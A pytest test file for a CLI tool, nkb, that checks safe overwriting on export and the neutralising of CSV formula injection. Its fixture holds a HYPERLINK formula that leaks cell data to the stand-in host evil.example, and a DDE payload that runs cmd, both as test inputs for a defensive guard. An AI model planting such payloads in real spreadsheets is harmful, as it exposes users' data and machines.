"""What an export writes and what it may replace: the installed `nkb` in a subprocess.

`--force` replaces only files nkb itself exported, each marked as nkb's (the SQLite application
id, the JSON Lines header record, the CSV folder's exact files and headers), never a user's
file that merely looks alike. CSV cells a spreadsheet would run as a formula are neutralised,
with the exact text recoverable."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nkb.errors import ExitCode
from nkb.text import FORMULA_STARTS, spreadsheet_safe, spreadsheet_text

NKB = Path(sys.executable).parent / "nkb"

pytestmark = pytest.mark.skipif(not NKB.exists(), reason="the nkb console script is not installed")


def run(kb: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(NKB), "--kb", str(kb), *args], capture_output=True, text=True,
                          timeout=60, env=os.environ.copy(), check=False)


# --- never overwrite what nkb did not write -----------------------------------------------------

NOT_NKBS = {
    "a log of events": '{"type": "event", "id": "login", "at": "2024-01-01"}\n'
                       '{"type": "quote", "id": "q1"}\n',
    "empty": "",
    "records without the header": '{"type": "source", "id": "001"}\n',
    "a header of another program": '{"type": "export", "format": "nkb-jsonl"}\n',
    "the header on a later line": '{"note": "mine"}\n{"type": "export", "format": "nkb-jsonl", '
                                  '"version": 1, "generator": "nkb"}\n',
    "not JSON": "id,title\n1,mine\n",
    "blank lines": "\n\n",
}


@pytest.mark.parametrize("content", NOT_NKBS.values(), ids=list(NOT_NKBS))
def test_force_refuses_a_json_lines_file_nkb_did_not_write(content: str, kb_dir: Path,
                                                           tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    theirs = tmp_path / "out" / "events.jsonl"
    theirs.write_text(content, encoding="utf-8")
    result = run(kb_dir, "export", "jsonl", str(theirs), "--force")
    assert result.returncode == ExitCode.ERROR
    assert f"{theirs} is not a JSON Lines export nkb wrote" in result.stderr
    assert theirs.read_text(encoding="utf-8") == content
    assert [p.name for p in theirs.parent.iterdir()] == ["events.jsonl"]  # no temporary left


def test_force_replaces_nkbs_own_json_lines_export(kb_dir: Path, tmp_path: Path) -> None:
    ours = tmp_path / "nkb.jsonl"
    assert run(kb_dir, "export", "jsonl", str(ours)).returncode == ExitCode.OK
    first = ours.read_text(encoding="utf-8").splitlines()[0]
    assert json.loads(first) == {"type": "export", "format": "nkb-jsonl", "version": 1,
                                 "generator": "nkb"}
    # even cut down to its header (or edited below it), the file is still nkb's to replace
    ours.write_text(first + "\n", encoding="utf-8")
    result = run(kb_dir, "export", "jsonl", str(ours), "--force")
    assert result.returncode == ExitCode.OK, result.stderr
    assert len(ours.read_text(encoding="utf-8").splitlines()) > 1


def test_the_header_opens_the_export_on_stdout_too(kb_dir: Path) -> None:
    lines = run(kb_dir, "export", "jsonl", "-").stdout.splitlines()
    assert json.loads(lines[0])["type"] == "export"
    assert {json.loads(line)["type"] for line in lines[1:]} == {"source", "actor", "event",
                                                                "quote"}


def test_force_refuses_an_empty_file_for_every_format(kb_dir: Path, tmp_path: Path) -> None:
    for fmt in ("sqlite", "jsonl"):
        empty = tmp_path / f"empty.{fmt}"
        empty.write_bytes(b"")
        result = run(kb_dir, "export", fmt, str(empty), "--force")
        assert result.returncode == ExitCode.ERROR
        assert str(empty) in result.stderr and empty.read_bytes() == b""
    folder = tmp_path / "empty-csv"
    folder.mkdir()
    result = run(kb_dir, "export", "csv", str(folder), "--force")
    assert result.returncode == ExitCode.ERROR
    assert f"{folder} is not a folder of nkb CSV files" in result.stderr


# --- formulas in CSV ----------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def formula_kb(kb_data: Any, make_kb: Callable[..., Path]) -> Path:
    """A KB whose article text and records start cells with every character a spreadsheet
    reads as the start of a formula, and with the guard itself."""
    kb_data.sources["002"]["record"]["title"] = FORMULA_TITLE
    kb_data.sources["002"]["record"]["outlet"] = "+Sputnik"
    kb_data.sources["002"]["record"]["quotes"][0]["text"] = FORMULA_QUOTE
    kb_data.sources["002"]["text"] += f"She added: {FORMULA_QUOTE}.\n"
    kb_data.events[0]["title"] = "-2+3 talks"
    kb_data.events[0]["description"] = "\t=1+1 in a tab"
    kb_data.events[1]["title"] = "'=already guarded by its author"
    kb_data.events[2]["description"] = "\r=1+1 after a carriage return"
    kb_data.actors[0]["note"] = "-- a dash and a note"
    return make_kb(actors=kb_data.actors, events=kb_data.events, sources=kb_data.sources)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_cell_never_starts_a_formula_and_its_text_comes_back(formula_kb: Path) -> None:
    shown = 0
    for command in (["sources"], ["quotes"], ["events"], ["actors"], ["timeline"],
                    ["search", "talks"], ["quotes", "--source", "2"]):
        result = run(formula_kb, *command, "-f", "csv")
        assert result.returncode == ExitCode.OK, result.stderr
        for row in csv_cells(result.stdout):
            for cell in row:
                assert cell[:1] not in FORMULA_STARTS, (command, cell)
                shown += cell != spreadsheet_text(cell)
    assert shown >= 6  # the guarded cells were there to check
    sources = csv_cells(run(formula_kb, "sources", "-f", "csv").stdout)
    title = sources[0].index("title")
    assert [spreadsheet_text(row[title]) for row in sources if row[0] == "002"] == [FORMULA_TITLE]


def test_numbers_are_left_as_numbers(formula_kb: Path) -> None:
    rows = csv_cells(run(formula_kb, "search", "talks", "-f", "csv").stdout)
    score = rows[0].index("score")
    assert all(float(row[score]) for row in rows[1:])  # "2.5", never "'2.5"
    counts = csv_cells(run(formula_kb, "sources", "-f", "csv").stdout)
    quotes = counts[0].index("quotes")
    assert sorted(row[quotes] for row in counts[1:]) == ["1", "1", "2"]


def test_export_csv_gives_back_the_exact_text_of_the_sqlite_export(formula_kb: Path,
                                                                   tmp_path: Path) -> None:
    assert run(formula_kb, "export", "csv", str(tmp_path / "csv")).returncode == ExitCode.OK
    assert run(formula_kb, "export", "sqlite", str(tmp_path / "nkb.db")).returncode == ExitCode.OK
    with sqlite3.connect(tmp_path / "nkb.db") as db:
        for name in ("sources", "events", "quotes", "actors"):
            cursor = db.execute(f'SELECT * FROM "{name}"')
            stored = [["" if v is None else str(v) for v in row] for row in cursor]
            header, *rows = csv_cells((tmp_path / "csv" / f"{name}.csv").read_bytes().decode())
            assert header == [d[0] for d in cursor.description]
            for row in rows:
                assert [c for c in row if c[:1] in FORMULA_STARTS] == []
            assert [[spreadsheet_text(c) for c in row] for row in rows] == stored, name


@given(st.text(max_size=12))
def test_the_guard_round_trips_any_text(text: str) -> None:
    cell = spreadsheet_safe(text)
    assert cell[:1] not in FORMULA_STARTS
    assert spreadsheet_text(cell) == text
    assert cell == text or cell == "'" + text
